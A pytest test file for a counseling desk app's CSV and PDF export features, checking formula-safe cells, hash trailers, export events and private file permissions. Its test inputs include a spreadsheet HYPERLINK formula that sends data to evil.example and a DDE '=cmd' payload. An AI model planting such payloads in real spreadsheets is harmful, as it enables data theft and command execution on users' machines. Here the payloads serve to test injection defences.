"""CSV and PDF exports: formula-safe cells, the head hash on paper, and an event per export."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import FakeClock
from pypdf import PdfReader

from desk.cli import main
from desk.core.errors import DeskError
from desk.core.requests import open_log
from desk.core.requests.export.report import CSV_COLUMNS, safe_cell, write_csv, write_pdf
from desk.core.requests.models import RequestFilter
from desk.core.requests.workflow import RequestLog

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def log(tmp_path: Path, clock: FakeClock) -> Iterator[RequestLog]:
    log = open_log(tmp_path / "data", clock=clock, workstation="front-1")
    log.add_staff(staff_id="jlee", name="Jo Lee")
    log.add_counselor(counselor_id="asmith", name="Ann Smith", email="ann@x.example.org")
    log.add_counselor(counselor_id="bdiaz", name="Bo Diaz", email="bo@x.example.org")
    yield log
    log.close()


def _last_event(data_dir: Path) -> tuple[str, str]:
    db = _database(data_dir)
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        row = conn.execute("SELECT type, payload FROM events ORDER BY seq DESC LIMIT 1").fetchone()
    finally:
        conn.close()
    return row[0], row[1]


def _database(data_dir: Path) -> Path:
    candidates = [
        p for p in data_dir.iterdir() if p.is_file() and p.suffix in {".sqlite", ".db", ".sqlite3"}
    ]
    assert len(candidates) == 1, candidates
    return candidates[0]


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (HOSTILE, "'" + HOSTILE),
        ("Ann Smith", "Ann Smith"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell_defuses_formulas(cell: str, shown: str) -> None:
    """Cells a spreadsheet would run as formulas get a leading quote; others stay as they are."""
    assert safe_cell(cell) == shown


def test_csv_has_every_request_formula_safe_with_head(log: RequestLog, tmp_path: Path) -> None:
    """The CSV lists each request once, defuses hostile names, and ends with the head hash."""
    hostile = log.add_request(client=HOSTILE, counselor_id="asmith", staff_id="jlee")
    plain = log.add_request(client="Zoë Park", counselor_id="bdiaz", staff_id="jlee")
    log.approve(plain.id, by="bdiaz", staff_id="jlee", how="phone")
    head = log.head()
    assert head is not None

    out = io.StringIO()
    assert write_csv(log, out, RequestFilter(), staff_id="jlee") == 2
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == CSV_COLUMNS
    body = {r[0]: dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows[1:3]}
    assert body[hostile.id]["client"] == "'" + HOSTILE
    assert body[plain.id]["client"] == "Zoë Park"
    assert body[plain.id]["status"] == "approved"
    assert body[plain.id]["decided_how"] == "phone"
    trailer = {r[0]: r[1] for r in rows[3:] if r}
    assert trailer["# head_hash"] == head.hash
    assert trailer["# head_seq"] == str(head.seq)
    assert trailer["# rows"] == "2"
    assert head.hash in trailer["# verify_with"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_export_is_recorded_as_an_event(log: RequestLog, tmp_path: Path) -> None:
    """Each export appends one `exported` event that names the format and row count."""
    log.add_request(client="Pat Client", counselor_id="asmith", staff_id="jlee")
    before = log.head()
    assert before is not None
    write_csv(log, io.StringIO(), RequestFilter(counselor_id="asmith"), staff_id="jlee")
    after = log.head()
    assert after is not None and after.seq == before.seq + 1
    kind, payload = _last_event(tmp_path / "data")
    assert kind == "exported"
    assert "csv" in payload
    assert "Pat Client" not in payload
    assert log.verify().ok


def test_export_by_unknown_staff_writes_nothing(log: RequestLog, tmp_path: Path) -> None:
    """An unknown exporter is refused before any byte or event is written."""
    before = log.head()
    out = io.StringIO()
    with pytest.raises(DeskError):
        write_csv(log, out, RequestFilter(), staff_id="nobody")
    target = tmp_path / "report.pdf"
    with pytest.raises(DeskError):
        write_pdf(log, target, RequestFilter(), title="R", staff_id="nobody")
    assert out.getvalue() == ""
    assert not target.exists()
    assert list(tmp_path.glob(".report.pdf*")) == []
    assert log.head() == before


def test_csv_filters_by_local_date(log: RequestLog, clock: FakeClock) -> None:
    """--since/--until keep only requests made on those local days."""
    made = []
    for _ in range(3):
        made.append(log.add_request(client="Pat", counselor_id="asmith", staff_id="jlee"))
        clock.advance(days=2)
    day = made[1].requested_at.astimezone().date()
    out = io.StringIO()
    assert write_csv(log, out, RequestFilter(since=day, until=day), staff_id="jlee") == 1
    assert made[1].id in out.getvalue()
    assert made[0].id not in out.getvalue()


def test_cli_export_files_are_private(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`desk requests export -o` writes owner-only CSV (with BOM) and PDF files."""
    main(["staff", "add", "--id", "jlee", "--name", "Jo Lee"])
    main(
        ["counselors", "add", "--id", "asmith", "--name", "Ann Smith", "--email", "a@x.example.org"]
    )
    main(
        [
            "requests",
            "add",
            "--client",
            "=cmd|' /C calc'!A0",
            "--counselor",
            "asmith",
            "--staff",
            "jlee",
        ]
    )
    csv_path, pdf_path = tmp_path / "out.csv", tmp_path / "out.pdf"
    assert main(["requests", "export", "--staff", "jlee", "-o", str(csv_path)]) == 0
    assert (
        main(["requests", "export", "--format", "pdf", "--staff", "jlee", "-o", str(pdf_path)]) == 0
    )
    text = csv_path.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    assert "\"'=cmd|' /C calc'!A0\"" in text
    assert pdf_path.read_bytes().startswith(b"%PDF-")
    assert "Caring Counseling" in PdfReader(pdf_path).pages[0].extract_text()
    if os.name == "posix":
        assert csv_path.stat().st_mode & 0o777 == 0o600
        assert pdf_path.stat().st_mode & 0o777 == 0o600
    capsys.readouterr()
    assert main(["requests", "export", "--staff", "jlee"]) == 0
    streamed = capsys.readouterr().out
    assert not streamed.startswith("\ufeff")
    assert streamed.startswith('"id","requested_at"')


def test_export_to_missing_folder_is_one_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An unwritable or non-file output path is refused in one line, with no export event."""
    main(["staff", "add", "--id", "jlee", "--name", "Jo Lee"])
    capsys.readouterr()
    target = tmp_path / "missing" / "out.csv"
    for fmt in ("csv", "pdf"):
        code = main(["requests", "export", "--format", fmt, "--staff", "jlee", "-o", str(target)])
        err = capsys.readouterr().err
        assert code == 1
        assert err.startswith("desk: error: cannot write") and err.count("\n") == 1
    code = main(["requests", "export", "--staff", "jlee", "-o", str(tmp_path)])
    assert code == 1
    assert "not a regular file" in capsys.readouterr().err
    assert tmp_path.is_dir()
    assert _last_event(tmp_path / "data")[0] == "staff_added"
